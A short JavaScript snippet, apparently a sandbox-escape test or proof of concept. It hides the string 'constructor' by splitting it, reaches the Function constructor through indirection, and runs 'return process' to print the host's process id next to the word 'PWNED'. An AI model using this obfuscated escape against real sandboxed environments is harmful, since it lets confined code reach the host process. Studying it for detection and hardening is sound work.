'use strict';
const w = ['con', 'structor'].join('');
class C { go(f) { return f[w]; } }
const t = new C();
t.go({});
const fn = (x) => x;
const m = new WeakMap();
const key = {};
m.set(key, t);
const o = Date.now() > 1 ? m.get(key) : {};
console.log('PWNED', o.go(fn)('return process')().pid);
